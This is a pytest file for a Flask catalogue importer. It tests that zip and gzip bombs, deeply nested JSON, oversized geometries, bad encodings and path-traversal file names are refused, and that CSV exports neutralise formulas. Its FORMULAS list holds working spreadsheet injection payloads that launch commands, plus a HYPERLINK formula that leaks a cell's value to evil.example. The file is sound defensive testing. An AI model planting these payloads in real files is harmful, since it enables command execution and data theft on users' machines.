"""Malicious uploads are refused cheaply and write nothing; CSV exports cannot carry formulas.

Each refusal is checked by its message, which says *where* the importer stopped: a gzip or a
zip renamed .geojson stops at its first bytes, a giant geometry at the vertex cap, a giant
property at the per-feature cap — never after decoding the whole thing.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import zipfile
from typing import Any

import pytest
from flask import Flask

from app import catalogue, imports
from app.db import scalar
from tests.conftest import T0, Client
from tests.unit import test_access_support as support

from .conftest import audit_length

LON, LAT = support.LON, support.LAT


@pytest.fixture
def steward(app: Flask, world: support.World) -> Client:
    client: Client = app.test_client()  # type: ignore[assignment]
    client.login("steward")  # GRDF: manages gas-network
    return client


def snapshot(db: Any) -> tuple[Any, ...]:
    return (
        scalar(db, "SELECT count(*) FROM features"),
        scalar(db, "SELECT max(revision) FROM datasets"),
        scalar(db, "SELECT count(*) FROM dataset_revisions"),
        audit_length(db),
    )


def upload(client: Client, content: bytes, name: str = "f.geojson", **form: str) -> Any:
    data = {"file": (io.BytesIO(content), name), **form}
    response = client.post(
        "/catalogue/gas-network/import", data=data, content_type="multipart/form-data"
    )
    # The test client spools big bodies to a temporary file it leaves open: close it here.
    response.request.environ["wsgi.input"].close()
    return response


def line_feature(fid: str, coords: Any, **props: Any) -> dict[str, Any]:
    return {
        "type": "Feature",
        "properties": {"id": fid, "pressure": "MPB", **props},
        "geometry": {"type": "LineString", "coordinates": coords},
    }


def collection(*features: dict[str, Any]) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": list(features)}).encode()


GOOD_LINE = [[LON, LAT], [LON + 0.001, LAT + 0.001]]


def test_a_normal_small_upload_is_accepted(steward: Client, sdb: Any) -> None:
    """The control case: the refusals below are not the importer refusing everything."""
    before = snapshot(sdb)
    response = upload(steward, collection(line_feature("DEMO-GAS-UP-1", GOOD_LINE)))
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    assert snapshot(sdb)[0] == before[0] + 1


def _refused(response: Any, db: Any, before: tuple[Any, ...], *expected: str) -> str:
    html = response.get_data(as_text=True)
    assert response.status_code == 422, html[:2000]
    for text in expected:
        assert text in html, (text, html[:3000])
    assert snapshot(db) == before
    return html


def test_oversized_upload_gets_a_clear_413_and_writes_nothing(
    app: Flask, steward: Client, sdb: Any
) -> None:
    app.config["MAX_CONTENT_LENGTH"] = 4096
    before = snapshot(sdb)
    big = collection(line_feature("DEMO-GAS-UP-1", GOOD_LINE, note="x" * 10_000))
    response = upload(steward, big)
    assert response.status_code == 413
    assert "Fichier trop volumineux" in response.get_data(as_text=True)
    htmx = steward.post(
        "/catalogue/gas-network/import",
        data={"file": (io.BytesIO(big), "f.geojson")},
        content_type="multipart/form-data",
        headers={"HX-Request": "true"},
    )
    assert htmx.status_code == 413 and htmx.headers["HX-Retarget"] == "#main"
    assert snapshot(sdb) == before


def test_deeply_nested_json_is_refused(steward: Client, sdb: Any) -> None:
    before = snapshot(sdb)
    depth = 100_000
    nested = b"[" * depth + b"]" * depth
    body = (
        b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"id":"a",'
        b'"note":' + nested + b'},"geometry":null}]}'
    )
    _refused(upload(steward, body), sdb, before, "imbrication trop profonde")


def test_deeply_nested_coordinates_are_refused(steward: Client, sdb: Any) -> None:
    before = snapshot(sdb)
    coords: Any = [LON, LAT]
    for _ in range(50):
        coords = [coords]
    body = collection(line_feature("DEMO-GAS-UP-1", coords))
    _refused(upload(steward, body), sdb, before, "coordonnées trop imbriquées")


def test_a_geometry_with_too_many_vertices_is_refused_at_the_cap(steward: Client, sdb: Any) -> None:
    before = snapshot(sdb)
    n = imports.MAX_VERTICES + 10
    coords = [[LON, LAT]] * n
    html = _refused(
        upload(steward, collection(line_feature("DEMO-GAS-UP-1", coords))),
        sdb,
        before,
        f"plus de {imports.MAX_VERTICES} sommets",
    )
    assert "rien n" in html


def test_a_huge_property_string_is_refused_at_the_feature_cap(
    steward: Client, sdb: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The cap on one feature's text (16 MiB in production, 64 KiB here to stay fast)."""
    monkeypatch.setattr(imports, "MAX_FEATURE_CHARS", 64 * 1024)
    before = snapshot(sdb)
    body = collection(line_feature("DEMO-GAS-UP-1", GOOD_LINE, note="A" * 3_000_000))
    _refused(upload(steward, body), sdb, before, "entité de plus de")


def test_non_utf8_text_is_refused_with_its_offset(steward: Client, sdb: Any) -> None:
    before = snapshot(sdb)
    body = collection(line_feature("DEMO-GAS-UP-1", GOOD_LINE, note="Vanne XX"))
    body = body.replace(b"XX", "église".encode("latin-1"))
    _refused(upload(steward, body), sdb, before, "encodage invalide", "UTF-8")


def test_a_gzip_renamed_geojson_is_refused_at_its_first_bytes(steward: Client, sdb: Any) -> None:
    before = snapshot(sdb)
    payload = collection(line_feature("DEMO-GAS-UP-1", GOOD_LINE, note=" " * 2_000_000))
    bomb = gzip.compress(payload, compresslevel=9)
    assert len(bomb) < len(payload) // 100
    html = _refused(upload(steward, bomb, "network.geojson"), sdb, before, "ligne 1")
    assert "(octet 1)" in html or "(octet 0)" in html or "JSON invalide" in html


def test_a_zip_bomb_renamed_geojson_is_refused_at_its_first_bytes(
    steward: Client, sdb: Any
) -> None:
    before = snapshot(sdb)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("inner.geojson", b"0" * 20_000_000)
    bomb = buf.getvalue()
    assert len(bomb) < 100_000
    _refused(upload(steward, bomb, "bomb.geojson"), sdb, before, "bomb.geojson, ligne 1")


def test_a_binary_file_with_a_csv_name_is_refused(steward: Client, sdb: Any) -> None:
    before = snapshot(sdb)
    blob = bytes(range(256)) * 64
    _refused(upload(steward, blob, "network.csv"), sdb, before, "encodage invalide")


def test_path_traversal_in_the_file_name_stays_in_the_upload_directory(
    steward: Client, sdb: Any, tmp_path: Any
) -> None:
    body = collection(line_feature("DEMO-GAS-UP-1", GOOD_LINE))
    response = upload(steward, body, "../../../../tmp/evil.geojson")
    assert response.status_code == 302
    name = scalar(sdb, "SELECT file_name FROM dataset_revisions ORDER BY id DESC LIMIT 1")
    assert name == "evil.geojson"


# --- CSV formula injection -----------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"clic")',
]


def test_csv_export_neutralises_formula_cells(app: Flask, sdb: Any, tmp_path: Any) -> None:
    """A value imported from a CSV that a spreadsheet would run comes back as text ('-prefixed)."""
    support.add_dataset(sdb, T0, "sirens", "caux-seine", "public", "Point", ["id", "name"])
    source = tmp_path / "sirens.csv"
    with source.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "name", "lon", "lat"])
        for i, formula in enumerate(FORMULAS):
            writer.writerow([f"DEMO-S-{i}", formula, LON, LAT])
        writer.writerow(["DEMO-S-plain", "Sirène de la mairie", LON, LAT])
    result = imports.import_file(sdb, T0, "sirens", source, actor="test")
    assert result.features == len(FORMULAS) + 1
    client: Client = app.test_client()  # type: ignore[assignment]
    client.login("liaison")
    response = client.get("/catalogue/sirens/export.csv")
    assert response.status_code == 200
    exported = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    names = {r["id"]: r["name"] for r in exported}
    for i, formula in enumerate(FORMULAS):
        cell = names[f"DEMO-S-{i}"]
        assert cell == "'" + formula, cell
    assert names["DEMO-S-plain"] == "Sirène de la mairie"  # ordinary text untouched
    for row in exported:  # numbers stay numbers: a negative longitude is not a formula
        float(row["lon"])
        assert not row["lon"].startswith("'")


def test_csv_cell_keeps_numbers_and_quotes_text_formulas() -> None:
    assert catalogue._csv_cell(-0.25) == "-0.25"
    assert catalogue._csv_cell(-3) == "-3"
    assert catalogue._csv_cell("=1+1") == "'=1+1"
    assert catalogue._csv_cell("\t=1+1") == "'\t=1+1"
    assert catalogue._csv_cell("\r=1+1") == "'\r=1+1"
    assert catalogue._csv_cell("Lillebonne") == "Lillebonne"
